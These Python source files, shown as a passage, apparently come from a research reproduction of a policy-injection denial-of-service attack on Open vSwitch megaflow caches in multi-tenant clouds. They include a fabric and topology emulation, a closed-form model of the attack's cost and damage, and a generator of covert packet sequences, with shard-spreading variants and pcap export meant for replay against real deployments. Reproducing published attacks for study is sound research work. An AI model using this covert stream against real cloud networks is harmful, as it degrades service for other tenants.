    def __init__(self, name: str = "dc-fabric") -> None:
        self.name = name
        self.links: dict[str, FabricLink] = {}
        #: links of detached nodes, counters preserved (a quarantined
        #: node's traffic history must not vanish from the totals)
        self.retired: dict[str, FabricLink] = {}
        self.delivered = 0
        self.undeliverable = 0

    def attach(self, node_name: str) -> FabricLink:
        """Connect a node; idempotent."""
        link = self.links.get(node_name)
        if link is None:
            link = FabricLink(node_name)
            self.links[node_name] = link
        return link

    def detach(self, node_name: str) -> bool:
        """Disconnect a node (e.g. a fleet quarantine isolating a
        poisoned hypervisor); later transmits to or from it count as
        undeliverable.  The link's counters move to :attr:`retired` so
        fabric-wide totals keep the node's history.  Returns whether
        the node was attached."""
        link = self.links.pop(node_name, None)
        if link is None:
            return False
        old = self.retired.get(node_name)
        if old is not None:
            # re-attached and re-detached: merge the two lifetimes
            old.tx_packets += link.tx_packets
            old.tx_bytes += link.tx_bytes
            old.rx_packets += link.rx_packets
            old.rx_bytes += link.rx_bytes
        else:
            self.retired[node_name] = link
        return True

    def transmit(self, src_node: str, dst_node: str, frame_bytes: int) -> bool:
        """Carry one frame between nodes; returns delivery success."""
        return self.transmit_many(src_node, dst_node, 1, frame_bytes)

    def transmit_many(self, src_node: str, dst_node: str, frames: int,
                      frame_bytes: int) -> bool:
        """Carry a burst of equal-size frames (one counter update, so a
        fleet tick's worth of covert packets is not ``frames`` Python
        calls).  Delivery is all-or-nothing; an undeliverable burst
        counts every frame."""
        if frames <= 0:
            return True
        src = self.links.get(src_node)
        dst = self.links.get(dst_node)
        if src is None or dst is None:
            self.undeliverable += frames
            return False
        src.tx_packets += frames
        src.tx_bytes += frames * frame_bytes
        dst.rx_packets += frames
        dst.rx_bytes += frames * frame_bytes
        self.delivered += frames
        return True

    def counters(self) -> dict[str, int]:
        """A snapshot of the fabric-wide counters — the figures a fleet
        result surfaces (``undeliverable`` used to be counted and then
        silently ignored).  Retired (detached) links stay in the tx
        sums, so the totals really are fabric-wide."""
        every = [*self.links.values(), *self.retired.values()]
        return {
            "nodes": len(self.links),
            "delivered": self.delivered,
            "undeliverable": self.undeliverable,
            "tx_packets": sum(link.tx_packets for link in every),
            "tx_bytes": sum(link.tx_bytes for link in every),
        }

    def __repr__(self) -> str:
        return f"Fabric({self.name}: {len(self.links)} nodes, {self.delivered} delivered)"
