"""The data-center fabric connecting server nodes.

Modelled as a non-blocking L3 fabric (the paper's attack is entirely
about the *edge* — the hypervisor switches — so the fabric only needs
to deliver packets to the right node and count them)."""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass
class FabricLink:
    """One node's uplink into the fabric, with counters."""

    node_name: str
    tx_packets: int = 0
    rx_packets: int = 0
    tx_bytes: int = 0
    rx_bytes: int = 0


class Fabric:
    """A star fabric: every node one hop from every other."""

    def __init__(self, name: str = "dc-fabric") -> None:
        self.name = name
        self.links: dict[str, FabricLink] = {}
        self.delivered = 0
        self.undeliverable = 0

    def attach(self, node_name: str) -> FabricLink:
        """Connect a node; idempotent."""
        link = self.links.get(node_name)
        if link is None:
            link = FabricLink(node_name)
            self.links[node_name] = link
        return link

    def transmit(self, src_node: str, dst_node: str, frame_bytes: int) -> bool:
        """Carry one frame between nodes; returns delivery success."""
        src = self.links.get(src_node)
        dst = self.links.get(dst_node)
        if src is None or dst is None:
            self.undeliverable += 1
            return False
        src.tx_packets += 1
        src.tx_bytes += frame_bytes
        dst.rx_packets += 1
        dst.rx_bytes += frame_bytes
        self.delivered += 1
        return True

    def __repr__(self) -> str:
        return f"Fabric({self.name}: {len(self.links)} nodes, {self.delivered} delivered)"
