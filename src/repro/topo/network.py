"""The cloud network: nodes + fabric + end-to-end delivery + CMS hookup.

This is the integration surface the examples use: provision pods,
attach tenant policies through a CMS, then send crafted packets and
observe both the verdicts and the megaflow state of every node.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.cms.base import CloudManagementSystem
from repro.flow.actions import Output
from repro.flow.extract import flow_key_from_packet
from repro.flow.fields import OVS_FIELDS, FieldSpace
from repro.net.ipv4 import IPv4
from repro.net.layers import Layer
from repro.ovs.switch import PacketResult
from repro.topo.fabric import Fabric
from repro.topo.node import UPLINK_PORT, Node, Pod


@dataclass
class DeliveryResult:
    """End-to-end outcome of one packet."""

    delivered: bool
    #: per-hop OVS results, in path order (source node, then dest node)
    hops: list[PacketResult]
    dst_pod: Pod | None
    #: where the packet stopped: "delivered", "dropped@<node>", "no-route"
    disposition: str

    @property
    def total_tuples_scanned(self) -> int:
        """Aggregate TSS scan work across hops (the attack's cost lever)."""
        return sum(hop.tuples_scanned for hop in self.hops)


class CloudNetwork:
    """A set of nodes joined by a fabric, with CMS-driven policies."""

    def __init__(self, space: FieldSpace = OVS_FIELDS) -> None:
        self.space = space
        self.fabric = Fabric()
        self.nodes: dict[str, Node] = {}
        self.clock = 0.0

    def add_node(self, name: str, node: Node | None = None) -> Node:
        """Create (or adopt) a node and attach it to the fabric."""
        if name in self.nodes:
            raise ValueError(f"node {name!r} already exists")
        node = node or Node(name, space=self.space)
        self.nodes[name] = node
        self.fabric.attach(name)
        return node

    def provision_pod(self, node_name: str, pod_name: str, ip: str | int,
                      tenant: str) -> Pod:
        """Provision a pod on a node."""
        return self.nodes[node_name].provision_pod(pod_name, ip, tenant)

    def find_pod(self, pod_name: str) -> tuple[Node, Pod]:
        """Locate a pod by name across all nodes."""
        for node in self.nodes.values():
            if pod_name in node.pods:
                return node, node.pods[pod_name]
        raise KeyError(f"no pod named {pod_name!r}")

    def node_for_ip(self, ip: int) -> tuple[Node, Pod] | None:
        """Locate the node hosting an address."""
        for node in self.nodes.values():
            pod = node.pod_by_ip(ip)
            if pod is not None:
                return node, pod
        return None

    def attach_policy(self, cms: CloudManagementSystem, policy: object,
                      pod_name: str) -> int:
        """Validate + compile a tenant policy and install it at the
        pod's node; returns the number of rules installed.

        This is the "(i) capability to define ACLs between our pods/VMs"
        the attack needs — a completely ordinary CMS operation.
        """
        node, pod = self.find_pod(pod_name)
        rules = cms.compile(policy, pod.policy_target(), self.space)
        node.switch.add_rules(rules)
        return len(rules)

    def advance_clock(self, now: float) -> None:
        """Advance every node's dataplane clock.  Clamped like the
        switch clocks it drives: a stale ``now`` must not rewind the
        network clock while every node ignores it."""
        self.clock = max(self.clock, now)
        for node in self.nodes.values():
            node.switch.advance_clock(now)

    # -- end-to-end delivery ---------------------------------------------------

    def send(self, packet: Layer | bytes, from_pod: str,
             now: float | None = None) -> DeliveryResult:
        """Deliver a packet from a pod to the destination its IPv4
        header names, through both hypervisor switches and the fabric."""
        if now is None:
            now = self.clock
        src_node, src_pod = self.find_pod(from_pod)
        if isinstance(packet, (bytes, bytearray)):
            from repro.net.parse import parse_ethernet
            packet = parse_ethernet(bytes(packet))
        ip = packet.get_layer(IPv4)
        if ip is None:
            return DeliveryResult(False, [], None, "no-route")
        located = self.node_for_ip(ip.dst)
        if located is None:
            return DeliveryResult(False, [], None, "no-route")
        dst_node, dst_pod = located

        hops: list[PacketResult] = []
        frame_len = len(packet.build())

        # hop 1: source node's OVS (ingress from the pod's port)
        key = flow_key_from_packet(packet, in_port=src_pod.port_no, space=self.space)
        result = src_node.switch.process(key, now=now)
        hops.append(result)
        if not result.forwarded:
            return DeliveryResult(False, hops, dst_pod, f"dropped@{src_node.name}")

        if dst_node is src_node:
            return self._local_delivery(result, hops, dst_pod, src_node)

        # fabric hop
        if not self.fabric.transmit(src_node.name, dst_node.name, frame_len):
            return DeliveryResult(False, hops, dst_pod, "no-route")

        # hop 2: destination node's OVS (ingress from the uplink)
        key = flow_key_from_packet(packet, in_port=UPLINK_PORT, space=self.space)
        result = dst_node.switch.process(key, now=now)
        hops.append(result)
        if not result.forwarded:
            return DeliveryResult(False, hops, dst_pod, f"dropped@{dst_node.name}")
        return self._local_delivery(result, hops, dst_pod, dst_node)

    def send_burst(self, packets: list[Layer | bytes], from_pod: str,
                   now: float | None = None) -> list[DeliveryResult]:
        """Deliver a burst of packets from one pod — the batch-first
        counterpart of :meth:`send` (which remains the single-packet
        special case).

        All first hops run as one ``process_batch`` on the source
        node's switch, then the surviving packets' second hops as one
        batch per destination node.  Each switch sees exactly the keys
        it would see from a per-packet loop, in the same order, so
        results and cache state are identical — only the per-packet
        clock/revalidator overhead is amortised.  Results come back in
        input order.
        """
        if now is None:
            now = self.clock
        src_node, src_pod = self.find_pod(from_pod)
        parsed: list[Layer] = []
        for packet in packets:
            if isinstance(packet, (bytes, bytearray)):
                from repro.net.parse import parse_ethernet
                packet = parse_ethernet(bytes(packet))
            parsed.append(packet)
        results: list[DeliveryResult | None] = [None] * len(parsed)
        plan: list[tuple[int, Layer, Node, Pod]] = []
        hop1_keys = []
        for index, packet in enumerate(parsed):
            ip = packet.get_layer(IPv4)
            located = self.node_for_ip(ip.dst) if ip is not None else None
            if located is None:
                results[index] = DeliveryResult(False, [], None, "no-route")
                continue
            dst_node, dst_pod = located
            plan.append((index, packet, dst_node, dst_pod))
            hop1_keys.append(
                flow_key_from_packet(
                    packet, in_port=src_pod.port_no, space=self.space
                )
            )
        if not plan:
            return [result for result in results if result is not None]
        batch1 = src_node.switch.process_batch(hop1_keys, now=now)
        # stage the cross-fabric survivors per destination node, keeping
        # input order within each group (and the fabric transmits in
        # input order, exactly like the per-packet loop)
        hop2_groups: dict[str, list] = {}
        for (index, packet, dst_node, dst_pod), result in zip(plan, batch1):
            hops = [result]
            if not result.forwarded:
                results[index] = DeliveryResult(
                    False, hops, dst_pod, f"dropped@{src_node.name}"
                )
                continue
            if dst_node is src_node:
                results[index] = self._local_delivery(
                    result, hops, dst_pod, src_node
                )
                continue
            frame_len = len(packet.build())
            if not self.fabric.transmit(
                src_node.name, dst_node.name, frame_len
            ):
                results[index] = DeliveryResult(False, hops, dst_pod, "no-route")
                continue
            key = flow_key_from_packet(
                packet, in_port=UPLINK_PORT, space=self.space
            )
            hop2_groups.setdefault(dst_node.name, []).append(
                (index, dst_node, dst_pod, hops, key)
            )
        for name, group in hop2_groups.items():
            batch2 = self.nodes[name].switch.process_batch(
                [staged[4] for staged in group], now=now
            )
            for (index, dst_node, dst_pod, hops, _key), result in zip(
                group, batch2
            ):
                hops.append(result)
                if not result.forwarded:
                    results[index] = DeliveryResult(
                        False, hops, dst_pod, f"dropped@{dst_node.name}"
                    )
                else:
                    results[index] = self._local_delivery(
                        result, hops, dst_pod, dst_node
                    )
        return [result for result in results if result is not None]

    def _local_delivery(self, result: PacketResult, hops: list[PacketResult],
                        dst_pod: Pod, node: Node) -> DeliveryResult:
        action = result.action
        if isinstance(action, Output):
            port = node.ports.get(action.port)
            if port is not None:
                port.tx_packets += 1
                if port.pod is dst_pod or (port.pod and port.pod.ip == dst_pod.ip):
                    return DeliveryResult(True, hops, dst_pod, "delivered")
            return DeliveryResult(False, hops, dst_pod, f"misdelivered@{node.name}")
        # a generic Allow without a port resolves via baseline forwarding
        return DeliveryResult(True, hops, dst_pod, "delivered")


def two_server_topology(
    space: FieldSpace = OVS_FIELDS,
    victim_tenant: str = "alice",
    attacker_tenant: str = "mallory",
) -> tuple[CloudNetwork, dict[str, Pod]]:
    """The paper's Fig. 1 setup: two servers, a fabric, and per-server
    pods for a victim tenant and the attacker (who, like any tenant,
    has pods on both servers)."""
    network = CloudNetwork(space=space)
    network.add_node("server1")
    network.add_node("server2")
    pods = {
        "victim-a": network.provision_pod("server1", "victim-a", "10.0.2.10", victim_tenant),
        "victim-b": network.provision_pod("server2", "victim-b", "10.0.2.20", victim_tenant),
        "mallory-a": network.provision_pod("server1", "mallory-a", "10.0.9.10", attacker_tenant),
        "mallory-b": network.provision_pod("server2", "mallory-b", "10.0.9.20", attacker_tenant),
    }
    return network, pods
