"""Server nodes, pods and virtual ports."""

from __future__ import annotations

import zlib
from dataclasses import dataclass, field

from repro.cms.base import PRIORITY_BASELINE_FORWARD, PolicyTarget
from repro.flow.actions import Output
from repro.flow.fields import OVS_FIELDS, FieldSpace
from repro.flow.match import FlowMatch
from repro.flow.rule import FlowRule
from repro.net.addresses import MacAddr, int_to_ip, ip_to_int
from repro.net.ethernet import ETHERTYPE_IPV4
from repro.ovs.switch import OvsSwitch
from repro.util.bits import ones

#: port number reserved for the node's fabric uplink
UPLINK_PORT = 1


@dataclass(frozen=True)
class Pod:
    """A pod/VM: the basic unit users deploy over the cloud."""

    name: str
    ip: int
    mac: MacAddr
    tenant: str
    node_name: str
    port_no: int

    @property
    def ip_str(self) -> str:
        return int_to_ip(self.ip)

    def policy_target(self) -> PolicyTarget:
        """This pod's virtual port as a policy attachment point."""
        return PolicyTarget(
            pod_ip=self.ip,
            output_port=self.port_no,
            tenant=self.tenant,
            pod_name=self.name,
        )


@dataclass
class VirtualPort:
    """One OVS port: either a pod's vNIC or the fabric uplink."""

    port_no: int
    name: str
    pod: Pod | None = None
    rx_packets: int = 0
    tx_packets: int = 0


class Node:
    """A server node: one datapath plus its attached pods.

    ``switch`` is any :class:`~repro.scenario.datapath.Datapath` (rule
    management broadcasts on a sharded one), defaulting to a bare
    :class:`OvsSwitch`.  Each node also carries a **mailbox** — the
    fleet event loop posts fabric-delivered messages into it and drains
    them per tick, coalescing same-tick payload keys into one
    ``process_batch`` call (the batch-first contract).
    ``install_default_route=False`` skips the default uplink rule for
    callers (the fleet) that manage the node's rule state themselves.
    """

    def __init__(
        self,
        name: str,
        space: FieldSpace = OVS_FIELDS,
        switch: "OvsSwitch | None" = None,
        install_default_route: bool = True,
    ) -> None:
        self.name = name
        self.space = space
        self.switch = switch or OvsSwitch(space=space, name=f"{name}-ovs")
        self.ports: dict[int, VirtualPort] = {
            UPLINK_PORT: VirtualPort(UPLINK_PORT, f"{name}-uplink")
        }
        self.pods: dict[str, Pod] = {}
        #: fabric-delivered messages awaiting this node's next drain
        self.mailbox: list[object] = []
        self._next_port = UPLINK_PORT + 1
        self._mac_counter = 0
        if install_default_route:
            # default route: IPv4 traffic without a local destination
            # goes to the fabric uplink (per-pod rules outrank this)
            self.switch.add_rule(
                FlowRule(
                    match=FlowMatch(space, {"eth_type": (ETHERTYPE_IPV4, ones(16))})
                    if "eth_type" in space
                    else FlowMatch.wildcard(space),
                    action=Output(UPLINK_PORT),
                    priority=0,
                    comment=f"{name}: default route to fabric",
                )
            )

    # -- mailbox -----------------------------------------------------------

    def enqueue(self, message: object) -> None:
        """Post one fabric-delivered message for the next drain."""
        self.mailbox.append(message)

    def drain_mailbox(self) -> list[object]:
        """Take every pending message, in delivery order."""
        messages, self.mailbox = self.mailbox, []
        return messages

    def provision_pod(self, name: str, ip: str | int, tenant: str) -> Pod:
        """Create a pod, attach its port and install baseline forwarding
        (ip_dst == pod → output to pod port)."""
        if name in self.pods:
            raise ValueError(f"pod {name!r} already exists on {self.name}")
        ip_value = ip_to_int(ip)
        self._mac_counter += 1
        # crc32, not builtin hash(): node names must map to the same
        # locally-administered MAC byte in every process (pcap replays
        # and fleet runs compare frames across runs)
        node_byte = zlib.crc32(self.name.encode("utf-8")) & 0xFF
        mac = MacAddr(0x02_00_00_00_00_00 | node_byte << 16 | self._mac_counter)
        port_no = self._next_port
        self._next_port += 1
        pod = Pod(
            name=name,
            ip=ip_value,
            mac=mac,
            tenant=tenant,
            node_name=self.name,
            port_no=port_no,
        )
        self.ports[port_no] = VirtualPort(port_no, f"{name}-eth0", pod=pod)
        self.pods[name] = pod
        self.switch.add_rule(
            FlowRule(
                match=FlowMatch(
                    self.space,
                    {
                        "eth_type": (ETHERTYPE_IPV4, ones(16)),
                        "ip_dst": (ip_value, ones(32)),
                    },
                ),
                action=Output(port_no),
                priority=PRIORITY_BASELINE_FORWARD,
                tenant=tenant,
                comment=f"baseline forwarding: {name}",
            )
        )
        return pod

    def pod_by_ip(self, ip: int) -> Pod | None:
        """The local pod owning an address, if any."""
        for pod in self.pods.values():
            if pod.ip == ip:
                return pod
        return None

    def __repr__(self) -> str:
        return f"Node({self.name}: {len(self.pods)} pods, {self.switch!r})"
