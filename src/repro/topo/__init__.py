"""``repro.topo`` — the Fig. 1 architecture as an in-process emulation.

"The test setup comprises two server nodes, a data center fabric, and
hypervisor switches (OVS in our case) providing network services to the
pods/VMs provisioned at each server."

:class:`CloudNetwork` wires :class:`Node` objects (each owning one
:class:`~repro.ovs.switch.OvsSwitch`) through a :class:`Fabric`; pods
attach to nodes via virtual ports (the red dots of Fig. 1 where ACLs
are installed).  ``send()`` delivers a crafted packet end-to-end:
source node's OVS → fabric → destination node's OVS → pod, returning
the verdict and the per-hop cost accounting.
"""

from repro.topo.node import Node, Pod, VirtualPort
from repro.topo.fabric import Fabric, FabricLink
from repro.topo.network import CloudNetwork, DeliveryResult, two_server_topology

__all__ = [
    "CloudNetwork",
    "DeliveryResult",
    "Fabric",
    "FabricLink",
    "Node",
    "Pod",
    "VirtualPort",
    "two_server_topology",
]
