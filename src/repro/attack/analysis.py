"""Closed-form analysis of a policy-injection attack.

For an ACL whose allow side consists of *single-dimension* rules — one
rule constraining field ``f_i`` with a prefix of length ``L_i`` — a
denied packet must mismatch **every** rule, and the slow path witnesses
each mismatch independently (see :mod:`repro.ovs.wildcarding`).  The
witness in field ``f_i`` can sit at any of its ``L_i`` constrained bit
positions, so the reachable deny-mask space is::

    |masks| = Π_i L_i

Paper instances:

* Fig. 2 toy (one 8-bit exact rule):        8
* /8 allow on ip_src:                        8
* exact ip_src + exact tp_dst (k8s, OSt):   32 · 16  = 512
* + exact tp_src (Calico):                  32 · 16 · 16 = 8192

Sustaining the masks only requires refreshing each megaflow within the
revalidator's idle timeout: ``pps = |masks| / idle_timeout`` — 820 pps
for 8192 masks, i.e. ≈0.4 Mbps of minimum-size frames.  The paper's
"1–2 Mbps covert stream" has comfortable headroom, which
:func:`required_refresh_bps` quantifies.
"""

from __future__ import annotations

import math
from dataclasses import dataclass

from repro.cms.acl import Acl
from repro.ovs.megaflow import DEFAULT_IDLE_TIMEOUT
from repro.perf.costmodel import CostModel


@dataclass(frozen=True)
class AttackDimension:
    """One attackable dimension: a field constrained by exactly one
    single-field allow rule, with the allow value and prefix depth."""

    field: str
    allow_value: int
    prefix_len: int
    width: int

    def __post_init__(self) -> None:
        if not 1 <= self.prefix_len <= self.width:
            raise ValueError(
                f"prefix_len must be in [1, {self.width}], got {self.prefix_len}"
            )


@dataclass(frozen=True)
class AttackPrediction:
    """Everything an attacker wants to know before pressing go."""

    mask_count: int
    covert_packets: int
    refresh_pps: float
    refresh_bps: float
    expected_degradation: float
    peak_capacity_pps: float
    attacked_capacity_pps: float

    def summary(self) -> str:
        """A one-paragraph human-readable report."""
        return (
            f"{self.mask_count} reachable megaflow masks; "
            f"{self.covert_packets} covert packets to install them; "
            f"{self.refresh_pps:.0f} pps ({self.refresh_bps / 1e6:.2f} Mbps) "
            f"to sustain them; expected victim capacity "
            f"{self.expected_degradation:.1%} of peak "
            f"({self.peak_capacity_pps:.0f} -> {self.attacked_capacity_pps:.0f} pps)"
        )


def reachable_mask_count(dimensions: list[AttackDimension]) -> int:
    """The product formula ``Π L_i`` (1 for an empty dimension list:
    only the single all-examined mask is reachable)."""
    return math.prod(dim.prefix_len for dim in dimensions)


def required_refresh_pps(
    mask_count: int,
    idle_timeout: float = DEFAULT_IDLE_TIMEOUT,
) -> float:
    """Packets/second needed to touch every megaflow once per idle
    window (the minimum covert rate that defeats the revalidator)."""
    if idle_timeout <= 0:
        raise ValueError("idle_timeout must be positive")
    return mask_count / idle_timeout


def required_refresh_bps(
    mask_count: int,
    idle_timeout: float = DEFAULT_IDLE_TIMEOUT,
    frame_bytes: int = 64,
) -> float:
    """Bit/second form of :func:`required_refresh_pps`."""
    return required_refresh_pps(mask_count, idle_timeout) * frame_bytes * 8


def analyze_acl(acl: Acl) -> list[AttackDimension]:
    """Extract attack dimensions from an ACL's *single-dimension* allow
    entries.  Entries constraining several fields at once are ignored
    for mask counting: a packet can be denied by such an entry with a
    witness in just its first-checked field, so multi-field entries do
    not multiply the deny-mask space the way independent entries do.
    """
    field_widths = {"ip_src": 32, "tp_dst": 16, "tp_src": 16}
    dimensions: list[AttackDimension] = []
    seen: set[str] = set()
    for dims in acl.allowed_field_widths():
        if len(dims) != 1:
            continue
        field_name, prefix_len = dims[0]
        if field_name in seen:
            continue
        seen.add(field_name)
        dimensions.append(
            AttackDimension(
                field=field_name,
                allow_value=0,  # value is irrelevant for counting
                prefix_len=prefix_len,
                width=field_widths.get(field_name, prefix_len),
            )
        )
    return dimensions


def predict(
    dimensions: list[AttackDimension],
    cost_model: CostModel | None = None,
    idle_timeout: float = DEFAULT_IDLE_TIMEOUT,
    frame_bytes: int = 64,
    baseline_masks: int = 2,
) -> AttackPrediction:
    """Full closed-form prediction for a dimension set."""
    model = cost_model or CostModel()
    masks = reachable_mask_count(dimensions)
    pps = required_refresh_pps(masks, idle_timeout)
    bps = required_refresh_bps(masks, idle_timeout, frame_bytes)
    peak = model.megaflow_path_capacity_pps(baseline_masks)
    attacked = model.megaflow_path_capacity_pps(masks)
    return AttackPrediction(
        mask_count=masks,
        covert_packets=masks,
        refresh_pps=pps,
        refresh_bps=bps,
        expected_degradation=attacked / peak,
        peak_capacity_pps=peak,
        attacked_capacity_pps=attacked,
    )
