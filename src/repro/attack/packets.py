"""The adversarial covert packet sequence.

"We also need a packet sequence that will populate the MF with the
'required' entries" — the paper omits the construction "in the interest
of space"; here it is:

For attack dimensions ``(f_1, L_1) … (f_k, L_k)`` (single-field allow
rules with prefix depth ``L_i``), the covert packet for mask combination
``(l_1, …, l_k)``, ``1 ≤ l_i ≤ L_i``, sets field ``f_i`` to the allow
value with **bit ``l_i − 1`` flipped**: the packet then agrees with the
allow prefix on the first ``l_i − 1`` bits and diverges at bit
``l_i − 1``, so the slow path's witness for rule ``i`` sits exactly at
prefix length ``l_i``.  Every combination yields a distinct megaflow
mask, all combinations are denied (every rule is mismatched), and the
full cross product ``Π L_i`` is covered with exactly one packet each.

All other header fields are pinned (same eth_type, ip_dst = the
attacker's own pod, the allow rule's protocol), so no accidental extra
masks appear — the stream is as quiet as possible: low-rate,
valid-looking traffic to the attacker's own pod that the default-deny
drops on arrival.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from itertools import product
from typing import Callable, Iterator, Sequence

from repro.attack.analysis import AttackDimension
from repro.flow.fields import FieldSpace, OVS_FIELDS
from repro.flow.key import FlowKey
from repro.net.addresses import MacAddr
from repro.net.ethernet import ETHERTYPE_IPV4, Ethernet
from repro.net.ipv4 import PROTO_TCP, PROTO_UDP, IPv4
from repro.net.l4 import Tcp, Udp
from repro.net.layers import Layer
from repro.net.pcap import PcapWriter
from repro.util.bits import bit_flip


def covert_keys_for_dimensions(
    dimensions: Sequence[AttackDimension],
    pinned: dict[str, int],
    space: FieldSpace = OVS_FIELDS,
) -> list[FlowKey]:
    """Generate one flow key per reachable mask combination.

    ``pinned`` supplies every non-attacked field (eth_type, ip_dst,
    ip_proto, and the allow values of attacked fields are taken from
    the dimensions themselves).
    """
    if not dimensions:
        raise ValueError("need at least one attack dimension")
    names = [dim.field for dim in dimensions]
    if len(set(names)) != len(names):
        raise ValueError(f"duplicate attack dimensions: {names}")
    base = dict(pinned)
    for dim in dimensions:
        base.setdefault(dim.field, dim.allow_value)

    keys: list[FlowKey] = []
    ranges = [range(1, dim.prefix_len + 1) for dim in dimensions]
    for combo in product(*ranges):
        values = dict(base)
        for dim, prefix_len in zip(dimensions, combo):
            values[dim.field] = bit_flip(dim.allow_value, prefix_len - 1, dim.width)
        keys.append(FlowKey(space, values))
    return keys


_M64 = (1 << 64) - 1


def _mixed_probe(counter: int, width: int) -> int:
    """A deterministic ``width``-bit probe pattern with every bit —
    high-order bits included — varying from the very first counter.

    A splitmix64 finalizer per 64-bit chunk: the enumeration order the
    spread-key search uses once the cheap single-bit walk is done, so a
    bounded budget samples the *whole* free-bit space instead of only
    its low-order corner.
    """
    pattern = 0
    offset = 0
    chunk_index = 0
    while offset < width:
        x = (counter + (chunk_index << 32) + 0x9E3779B97F4A7C15) & _M64
        x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & _M64
        x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & _M64
        x ^= x >> 31
        pattern |= x << offset
        offset += 64
        chunk_index += 1
    return pattern & ((1 << width) - 1)


@dataclass
class SpreadCoverage:
    """Explicit shard-coverage accounting for a spread-key search.

    :meth:`CovertStreamGenerator.spread_keys` historically dropped
    shards *silently* when its per-combination search budget ran out —
    indistinguishable from shards that are genuinely unreachable (no
    free wildcarded-bit entropy left).  This report separates the two:
    ``missed`` lists every (combination, shard) gap, and
    ``budget_exhausted`` counts the combinations abandoned with free
    entropy still unexplored.
    """

    #: one steered variant per reached (combination, shard) pair, in
    #: combination order then shard order — what ``spread_keys`` returns
    keys: list[FlowKey] = field(default_factory=list)
    #: the combination index each key belongs to (parallel to ``keys``)
    combo_of: list[int] = field(default_factory=list)
    shards: int = 0
    combos: int = 0
    #: combination index -> shards no variant was found for
    missed: dict[int, tuple[int, ...]] = field(default_factory=dict)
    #: combinations abandoned with unexplored free-bit entropy left
    #: (raise ``max_tries_per_shard`` to search further); the remaining
    #: ``missed`` entries are genuinely unreachable
    budget_exhausted: int = 0

    @property
    def reached_pairs(self) -> int:
        return self.combos * self.shards - sum(
            len(gaps) for gaps in self.missed.values()
        )

    @property
    def coverage(self) -> float:
        """Fraction of (combination, shard) pairs a variant reaches."""
        total = self.combos * self.shards
        return self.reached_pairs / total if total else 1.0

    @property
    def complete(self) -> bool:
        return not self.missed


class CovertStreamGenerator:
    """Generates the covert stream as flow keys *and* as real packets.

    The flow keys drive the in-process dataplane model; the packets
    (and their pcap export) target replay against a real deployment.
    """

    def __init__(
        self,
        dimensions: Sequence[AttackDimension],
        dst_ip: int,
        space: FieldSpace = OVS_FIELDS,
        protocol: int = PROTO_TCP,
        src_mac: str = "02:00:00:aa:00:01",
        dst_mac: str = "02:00:00:aa:00:02",
        default_src_ip: int = 0x0A000001,
        default_sport: int = 40000,
        default_dport: int = 40001,
        frame_pad: int = 64,
    ) -> None:
        if protocol not in (PROTO_TCP, PROTO_UDP):
            raise ValueError("covert stream must be TCP or UDP")
        self.dimensions = list(dimensions)
        self.space = space
        self.protocol = protocol
        self.dst_ip = dst_ip
        self.src_mac = MacAddr(src_mac)
        self.dst_mac = MacAddr(dst_mac)
        self.default_src_ip = default_src_ip
        self.default_sport = default_sport
        self.default_dport = default_dport
        self.frame_pad = frame_pad

    def pinned_fields(self) -> dict[str, int]:
        """The non-attacked field values every covert packet shares."""
        pinned = {
            "eth_type": ETHERTYPE_IPV4,
            "ip_dst": self.dst_ip,
            "ip_proto": self.protocol,
            "ip_src": self.default_src_ip,
            "tp_src": self.default_sport,
            "tp_dst": self.default_dport,
        }
        return {name: value for name, value in pinned.items() if name in self.space}

    def keys(self) -> list[FlowKey]:
        """The full adversarial key sequence (one per target mask)."""
        return covert_keys_for_dimensions(self.dimensions, self.pinned_fields(), self.space)

    def burst(self):
        """:meth:`keys` as a pre-packed
        :class:`~repro.perf.burst.KeyBurst` — the batch-first pipeline's
        unit of traffic (packed ints and RSS buckets derived once,
        cyclic lap slicing instead of per-packet indexing)."""
        from repro.perf.burst import KeyBurst

        return KeyBurst(self.keys())

    def spread_burst(
        self,
        shards: int,
        shard_of: Callable[[FlowKey], int],
        max_tries_per_shard: int = 32,
    ):
        """:meth:`spread_keys` as a pre-packed
        :class:`~repro.perf.burst.KeyBurst` (see :meth:`burst`)."""
        from repro.perf.burst import KeyBurst

        return KeyBurst(
            self.spread_keys(
                shards, shard_of, max_tries_per_shard=max_tries_per_shard
            )
        )

    def spread_keys(
        self,
        shards: int,
        shard_of: Callable[[FlowKey], int],
        max_tries_per_shard: int = 32,
    ) -> list[FlowKey]:
        """The hash-aware covert stream against a sharded datapath: per
        reachable mask combination, one key variant per PMD shard.

        A multi-PMD datapath RSS-dispatches packets by their headers, so
        the plain :meth:`keys` stream scatters — each mask lands only on
        the one shard its key hashes to, and the damage is *diluted* by
        the shard count.  The hash-aware attacker defeats that: for a
        combination whose witness sits at prefix length ``l_i``, the
        resulting megaflow wildcards every bit of field ``f_i`` below
        bit ``l_i - 1`` — so those bits are free entropy.  Varying them
        changes the RSS hash without changing the mask *or* the masked
        key the megaflow stores, and a brute-force search over the free
        bits (``shard_of`` is the attacker's model of the dispatcher)
        finds one variant per shard.  Every shard then receives the full
        mask cross-product, at ``shards``× the (still tiny) covert
        bandwidth.

        Combinations without enough free entropy (witnesses at full
        depth) stay confined to wherever their single key hashes.
        Deterministic given the dispatcher: no randomness involved.
        Coverage is explicit: this is
        ``spread_coverage(...).keys`` — call :meth:`spread_coverage`
        directly for the per-combination reached-shard report.
        """
        return self.spread_coverage(
            shards, shard_of, max_tries_per_shard=max_tries_per_shard
        ).keys

    def spread_coverage(
        self,
        shards: int,
        shard_of: Callable[[FlowKey], int],
        max_tries_per_shard: int = 32,
    ) -> SpreadCoverage:
        """The hash-aware search with explicit per-combination coverage.

        Per combination the search probes the free wildcarded bits in
        three deterministic stages, all within a
        ``max_tries_per_shard * shards`` budget:

        1. the base key itself (no bits flipped);
        2. every single free bit, **highest-order first** — so the
           search exercises the whole free-bit space before giving up,
           instead of counting through its low-order corner;
        3. splitmix-mixed patterns (:func:`_mixed_probe`) that vary
           every free bit at once.

        A combination that ends with unreached shards *and* unexplored
        entropy is counted in ``budget_exhausted``; one whose entire
        free space was enumerated is genuinely unreachable.  The old
        low-order counter walk could exhaust its budget on wide free
        spaces while whole shards hid behind untouched high bits — and
        reported nothing.
        """
        if shards < 1:
            raise ValueError("shards must be >= 1")
        base = dict(self.pinned_fields())
        for dim in self.dimensions:
            base.setdefault(dim.field, dim.allow_value)
        report = SpreadCoverage(shards=shards)
